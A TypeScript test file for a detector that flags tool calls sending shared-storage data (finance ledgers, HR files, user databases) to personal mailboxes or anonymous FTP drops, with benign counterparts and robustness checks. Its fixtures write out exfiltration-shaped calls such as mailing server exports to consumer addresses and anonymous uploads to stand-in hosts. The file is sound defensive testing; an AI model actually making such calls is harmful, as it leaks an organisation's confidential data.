/**
 * Round 22x (session 16): bulk data from shared storage sent to a personal or anonymous drop (`outward-payload.ts`,
 * `sharedStoreToDrop`). Texts are our own, written for these tests; each attack is paired with an honest call of the
 * same surface that must stay quiet.
 */
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { sensitivePayloadOut } from '../outward-payload';
import { combineFindings } from '../verdict';
import { toolCall } from '../test-builders';

const shape = (tool: string, args: Record<string, unknown>) => sensitivePayloadOut(tool, args)?.shape;
const DROP = 'shared_store_to_personal_drop';

describe('round 22x: shared storage to a personal or anonymous drop', () => {
  test('an export from a server share mailed to a consumer mailbox', () => {
    assert.equal(shape('send_email', { to: 'tkowal.home@gmail.com', subject: 'x', body: 'as agreed', attachments: ['/srv/ledger/out/q3_accounts.xlsx'] }), DROP);
    assert.equal(shape('mail.send', { aan: ['r.visser@hotmail.nl'], bijlage: '\\\\nas02\\finance\\2026\\' }), DROP);
    assert.equal(shape('enviar', { para: 'copia.segura@proton.me', adjuntos: ['/data/rrhh/a.pdf', '/data/rrhh/b.pdf'] }), DROP);
    assert.equal(shape('share_file', { share_with: 'k.lind@yahoo.se', file: 'smb://fs1/legal/contracts/' }), DROP);
  });

  test('an upload with an anonymous login', () => {
    assert.equal(shape('ftp_upload', { host: 'files.drop-zone.example', username: 'anonymous', password: 'x', local_path: '/mnt/plans/site_b/', remote_path: '/incoming/' }), DROP);
    assert.equal(shape('ftp_upload', { host: '203.0.113.9', user: 'guest', files: ['/opt/app/db/users.sqlite'] }), DROP);
  });

  test('honest calls of the same surface stay quiet', () => {
    // One document from the business to its own customer.
    assert.equal(shape('envoyer_email', { destinataire: 'c.morel@gmail.com', objet: 'Facture', pieces_jointes: ['/factures/2026/F-77.pdf'] }), undefined);
    // The user's own files, from the home folder or the phone.
    assert.equal(shape('send_email', { to: 'me.backup@gmail.com', attachments: ['~/Documents/trip.zip', '/home/ana/Pictures/'] }), undefined);
    assert.equal(shape('send_email', { to: 'sis@icloud.com', attachments: ['/sdcard/DCIM/a.jpg', '/sdcard/DCIM/b.jpg'] }), undefined);
    // Shared storage to a colleague at the organisation's own domain.
    assert.equal(shape('send_email', { to: 'p.ng@acme-logistics.com', attachments: ['/srv/reports/weekly.xlsx'] }), undefined);
    // The consumer mailbox is the sender, not the recipient.
    assert.equal(shape('send_email', { from: 'shop.owner@gmail.com', to: 'orders@supplier.example', attachments: ['/srv/shop/orders.csv'] }), undefined);
    // A signed-in upload to the organisation's FTP server; the remote folder is where it lands, not what is sent.
    assert.equal(shape('ftp_upload', { host: 'ftp.acme.example', username: 'deploy', password: 'p', local_path: '/srv/site/build/' }), undefined);
    assert.equal(shape('ftp_upload', { host: 'ftp.mirror.example', username: 'anonymous', local_path: '/home/ana/notes.txt', remote_path: '/pub/incoming/' }), undefined);
  });

  test('the verdict: exfiltration at 0.6, the drop shown, no path repeated in the evidence text', () => {
    const msg = toolCall({ to: 'tkowal.home@gmail.com', attachments: ['/srv/ledger/out/q3_accounts.xlsx'] }, 'send_email');
    const ex = combineFindings([], msg, 'tools/call', 0.5).find((a) => a.category === 'exfiltration');
    assert.ok(ex);
    assert.equal(ex!.score, 0.6);
    assert.equal(ex!.evidence[0]!.text, 'tkowal.home@gmail.com');
    assert.equal(ex!.details?.payload_shape, DROP);
  });

  test('hostile input: long, odd and nested values neither throw nor hang', () => {
    const long = '/srv/' + 'a/'.repeat(50_000);
    const t0 = process.hrtime.bigint();
    assert.equal(shape('send_email', { to: 'x@gmail.com', attachments: [long] }), undefined);
    assert.equal(shape('send_email', { to: 'a'.repeat(70) + '@gmail.com', attachments: ['/srv/a/b.csv'] }), undefined);
    assert.equal(shape('send_email', { to: '@gmail.com\u0000', attachments: ['\\\\\\\\'.repeat(1000)] }), undefined);
    let deep: Record<string, unknown> = { to: 'x@gmail.com' };
    for (let i = 0; i < 50; i++) deep = { n: deep, f: '/srv/x/' };
    assert.doesNotThrow(() => sensitivePayloadOut('send', deep));
    assert.ok(Number(process.hrtime.bigint() - t0) / 1e6 < 2000);
  });
});
